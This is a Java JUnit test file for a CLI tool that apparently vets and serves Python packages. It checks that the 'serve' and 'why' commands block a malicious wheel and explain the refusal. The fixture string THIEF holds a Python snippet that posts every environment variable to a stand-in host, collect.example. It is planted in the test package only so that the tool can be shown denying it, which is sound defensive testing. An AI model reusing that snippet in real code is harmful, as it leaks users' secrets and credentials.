package dev.assay.cli.command;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.cli.LoopbackIndex;
import dev.assay.cli.Run;
import dev.assay.cli.terminal.Surroundings;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.HashMap;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/// `serve` and `why` together, each as somebody types it.
@Timeout(value = 120, unit = TimeUnit.SECONDS)
class ServeCommandTest {
  private static final Pattern SERVING = Pattern.compile("serving `(http://[^`]+)`");
  private static final String THIEF =
      """
      import os, urllib.request
      urllib.request.urlopen("https://collect.example/in", str(dict(os.environ)).encode())
      """;

  @TempDir private Path home;
  private final ByteArrayOutputStream err = new ByteArrayOutputStream();
  private final CompletableFuture<Integer> ended = new CompletableFuture<>();
  private LoopbackIndex upstream;
  private Thread server;

  @BeforeEach
  void publish() throws Exception {
    upstream = new LoopbackIndex();
    upstream.publish("acme", "acme-1.0-py3-none-any.whl", wheel("1.0", "x = 1\n"));
    upstream.publish("acme", "acme-1.1-py3-none-any.whl", wheel("1.1", THIEF));
    Files.writeString(home.resolve("young.toml"), "[index]\nminimum-age = 0\n");
  }

  private static byte[] wheel(String version, String module) throws IOException {
    String info = "acme-" + version + ".dist-info/";
    return LoopbackIndex.zip(
        Map.of(
            "acme/__init__.py",
            module,
            info + "METADATA",
            "Metadata-Version: 2.1\nName: acme\nVersion: " + version + "\n",
            info + "WHEEL",
            "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"));
  }

  @AfterEach
  void stop() throws Exception {
    if (server != null) {
      server.interrupt();
      server.join(Duration.ofSeconds(60));
    }
    upstream.close();
  }

  @Test
  void anIndexServesAndSaysWhyItDoesNot() throws Exception {
    String index = serve("--policy", "young.toml");
    assertThat(err.toString(StandardCharsets.UTF_8))
        .contains("the first admin token is in", "in front of `127.0.0.1`")
        .doesNotContain("assay_");
    assertThat(Files.readString(home.resolve("data/admin-token"))).startsWith("assay_");

    Run before = why(index, "acme==1.1");
    assertThat(before.out()).contains("offered, judged when it is asked for");
    assertThat(before.code()).isZero();

    String thief = index.replace("/simple/", "/files/acme/acme-1.1-py3-none-any.whl");
    assertThat(ask(thief)).isEqualTo(403);
    assertThat(ask(thief.replace("1.1", "1.0"))).isEqualTo(200);
    Run denied = why(index, "Acme==1.1");
    assertThat(denied.code()).isEqualTo(1);
    assertThat(denied.out())
        .contains("acme 1.1: 1 of 1 files are not offered", "denied", "hint: ", "acme/__init__.py");
    assertThat(why(index, "acme==1.1", "--format", "json").out())
        .startsWith("{\"schema\":\"assay/why/1\"");
    assertThat(why(index, "nobody").code()).isEqualTo(3);
  }

  @Test
  void whatCannotBeAskedIsSaid() {
    Run run = Run.in(home, home, "why", "acme", "--index", "http://127.0.0.1:1/simple/");
    assertThat(run.code()).isEqualTo(3);
    assertThat(run.err()).contains("gave no answer", "hint: ");
    assertThat(Run.in(home, home, "why", "-").code()).isEqualTo(2);
  }

  @Test
  void settingsThatMakeNoSenseAreWrongUse() {
    assertThat(Run.in(home, home, "serve", "--anonymous", "maybe", "--no-upstream").code())
        .isEqualTo(2);
    assertThat(Run.in(home, home, "serve", "--no-upstream", "--oidc", "absent.toml").err())
        .contains("`absent.toml`: it cannot be read");
    Run port = Run.in(home, home, Map.of("ASSAY_INDEX_PORT", "x"), "serve", "--no-upstream");
    assertThat(port.code()).isEqualTo(2);
    assertThat(port.err()).contains("--port");
  }

  private Run why(String index, String... more) {
    String[] arguments = new String[more.length + 3];
    arguments[0] = "why";
    arguments[1] = "--index";
    arguments[2] = index;
    System.arraycopy(more, 0, arguments, 3, more.length);
    return Run.in(home, home, arguments);
  }

  private static int ask(String address) throws IOException, InterruptedException {
    try (HttpClient http = HttpClient.newHttpClient()) {
      HttpRequest request = HttpRequest.newBuilder(URI.create(address)).build();
      return http.send(request, BodyHandlers.discarding()).statusCode();
    }
  }

  /// Starts a server and waits until it says where it listens.
  private String serve(String... more) throws Exception {
    String[] arguments = new String[more.length + 6];
    System.arraycopy(
        new String[] {"serve", "--data", "data", "--port", "0", "--offline"}, 0, arguments, 0, 6);
    System.arraycopy(more, 0, arguments, 6, more.length);
    Map<String, String> environment = new HashMap<>(upstream.environment());
    environment.put("XDG_CACHE_HOME", home.resolve("cache").toString());
    environment.put("XDG_CONFIG_HOME", home.resolve("config").toString());
    Surroundings surroundings =
        new Surroundings(
            environment,
            home,
            home,
            Clock.fixed(Instant.parse(Run.TODAY + "T00:00:00Z"), ZoneOffset.UTC),
            new ByteArrayInputStream(new byte[0]),
            new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8),
            new PrintStream(err, true, StandardCharsets.UTF_8),
            false,
            false);
    server =
        Thread.ofPlatform().start(() -> ended.complete(AssayCommand.run(surroundings, arguments)));
    while (!ended.isDone()) {
      Matcher said = SERVING.matcher(err.toString(StandardCharsets.UTF_8));
      if (said.find() && err.toString(StandardCharsets.UTF_8).contains("in front of")) {
        return said.group(1);
      }
      Thread.sleep(50);
    }
    throw new AssertionError(err.toString(StandardCharsets.UTF_8));
  }
}
